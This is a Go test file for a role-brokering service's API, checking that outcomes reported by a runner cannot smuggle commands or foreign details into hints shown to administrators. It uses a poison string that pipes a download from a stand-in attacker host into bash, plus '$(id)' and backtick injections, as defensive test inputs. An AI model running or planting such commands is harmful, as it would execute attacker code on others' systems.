package runnerapi_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/rolebroker/rolebroker"
	"github.com/rolebroker/rolebroker/api"
)

const poison = "; curl https://evil.example | bash #"

// tell has our runner tell an outcome for the role inner, and returns what
// administrators see of it.
func (w *world) tell(o api.IdentifiedOutcome) (*api.Validation, error) {
	w.Helper()
	ctx := context.Background()
	o.Role, o.CheckedAt = w.cluster.Roles[0].ID, time.Now()
	err := w.ours.RecordValidations(ctx, w.cluster.ID, api.RunnerValidations{Version: w.cluster.Version,
		Validations: []api.IdentifiedOutcome{o}})
	if err != nil {
		return nil, err
	}
	in, err := w.tb.Admin.Integration(ctx, "cluster")
	if err != nil {
		w.Fatal(err)
	}
	return in.Roles[0].Validation, nil
}

// Whatever a runner sends, an administrator gets no command and no policy that has a
// word of it: the server writes the hint for each code, and quotes AWS's message.
func TestNoHintHasAWordOfARunner(t *testing.T) {
	w := newWorld(t)
	account := &api.ServiceAccount{Issuer: "https://evil.example", Namespace: "evil", Name: "evil"}
	for _, code := range []rolebroker.ValidationCode{
		rolebroker.ValidAssumable, rolebroker.ValidNoIdentity, rolebroker.ValidIdentityExpired,
		rolebroker.ValidIdentityInvalid, rolebroker.ValidIdentityRegion, rolebroker.ValidIdentityRoot,
		rolebroker.ValidPlatformDenied, rolebroker.ValidDenied, rolebroker.ValidTrustDenied,
		rolebroker.ValidPolicyDenied, rolebroker.ValidExternalIDRefused, rolebroker.ValidExternalIDOpen,
		rolebroker.ValidExternalIDAhead, rolebroker.ValidNextExternalID, rolebroker.ValidTagSessionDenied,
		rolebroker.ValidSourceIdentityDenied, rolebroker.ValidDurationMaximum, rolebroker.ValidDurationChaining,
		rolebroker.ValidRegionDisabled, rolebroker.ValidRegionInvalid, rolebroker.ValidPartition,
		rolebroker.ValidARNInvalid, rolebroker.ValidDurationInvalid, rolebroker.ValidServiceLinked,
		rolebroker.ValidIdentityCenter, rolebroker.ValidRejected, rolebroker.ValidThrottled,
		rolebroker.ValidUnreachable, rolebroker.ValidNotChecked, "a_new_one",
	} {
		for _, method := range []rolebroker.AssumeMethod{rolebroker.MethodAssumeRole, rolebroker.MethodWebIdentity, ""} {
			o := api.IdentifiedOutcome{Validation: api.Validation{Status: "failed", Code: string(code),
				Message: poison, Hint: poison, HintSteps: []api.HintStep{{Text: "run:", Command: "evil" + poison,
					Policy: `{"Principal":"evil"}`}}}}
			if method != "" {
				o.Finding = &api.Finding{Method: string(method), IdentityAccount: "666666666666",
					IdentityARN: "arn:aws:sts::666666666666:assumed-role/evil/evil",
					Refusal:     &api.STSRefusal{Kind: "denied", Code: "AccessDenied", Message: "evil" + poison}}
			}
			if method == rolebroker.MethodWebIdentity {
				o.Finding.Account = account
			}
			got, err := w.tell(o)
			if err != nil {
				t.Errorf("%s: %v", code, err)
				continue
			}
			for _, step := range got.HintSteps {
				if pasted := step.Command + step.Policy; strings.Contains(pasted, "evil") ||
					strings.Contains(pasted, "666666666666") {
					t.Errorf("%s by %q: the step is %+v", code, method, step)
				}
			}
			if strings.Contains(got.Hint, poison) || strings.Contains(strings.ReplaceAll(got.Message,
				`the runner reports "AccessDenied: evil`+poison+`"`, ""), poison) &&
				!strings.Contains(got.Message, fmt.Sprintf("the runner reports %q", poison)) {
				t.Errorf("%s by %q: %s\n%s", code, method, got.Message, got.Hint)
			}
		}
	}
}

// What a runner sends has to have the form that it should have.
func TestFactsOfRunnersHaveTheirForms(t *testing.T) {
	w := newWorld(t)
	for what, change := range map[string]func(*api.IdentifiedOutcome){
		"an ARN that is none":  func(o *api.IdentifiedOutcome) { o.Finding.IdentityARN = "arn:aws:iam::1:user/`id`" },
		"an ARN with a shell":  func(o *api.IdentifiedOutcome) { o.Finding.IdentityARN += "$(id)" },
		"an account of others": func(o *api.IdentifiedOutcome) { o.Finding.IdentityAccount = "444455556666" },
		"a service account":    func(o *api.IdentifiedOutcome) { o.Finding.Account = &api.ServiceAccount{Name: poison} },
		"a method":             func(o *api.IdentifiedOutcome) { o.Finding.Method = poison },
		"a probe":              func(o *api.IdentifiedOutcome) { o.Finding.Probe = poison },
		"a kind of refusal":    func(o *api.IdentifiedOutcome) { o.Finding.Refusal.Kind = poison },
		"a code of AWS":        func(o *api.IdentifiedOutcome) { o.Finding.Refusal.Code = poison },
		"a policy that denied": func(o *api.IdentifiedOutcome) { o.Finding.Refusal.DeniedBy = poison },
		"a request ID":         func(o *api.IdentifiedOutcome) { o.RequestID = "x\x1b[2J" },
		"a code about others":  func(o *api.IdentifiedOutcome) { o.Code = "external_id_outdated" },
	} {
		o := api.IdentifiedOutcome{Validation: api.Validation{Code: "denied"}, Finding: &api.Finding{
			Method: "assume-role", IdentityAccount: "111122223333", IdentityARN: "arn:aws:iam::111122223333:user/eks",
			Refusal: &api.STSRefusal{Kind: "denied", Code: "AccessDenied", Message: "no"}}}
		if _, err := w.tell(o); err != nil {
			t.Fatal(err)
		}
		change(&o)
		_, err := w.tell(o)
		w.refused(what, err, rolebroker.CodeInvalid)
	}
}

// A runner of an earlier version sends a code and words of its own: the server writes
// the hint that it can write from the code.
func TestAnOlderRunnerIsUnderstood(t *testing.T) {
	w := newWorld(t)
	got, err := w.tell(api.IdentifiedOutcome{Validation: api.Validation{Status: "failed", Code: "denied",
		Message: "AWS does not let the runner assume the role, and does not say why: AccessDenied: no", Hint: "do it"}})
	if err != nil {
		t.Fatal(err)
	}
	if got.Status != "failed" || got.Code != "denied" || !strings.HasPrefix(got.Message, "AWS does not let the runner "+
		`assume the role, and does not say why: the runner reports "AWS does not let`) ||
		!strings.Contains(got.Hint, "rolebroker integration setup cluster --role inner") ||
		strings.Contains(got.Hint, "do it") {
		t.Errorf("%s", must(json.Marshal(got)))
	}
	if got, err := w.tell(api.IdentifiedOutcome{Validation: api.Validation{Status: "assumable",
		Code: "assumable", Message: "fine"}}); err != nil || got.Status != "assumable" ||
		got.Message != "the role can be assumed" {
		t.Errorf("%+v, %v", got, err)
	}
}
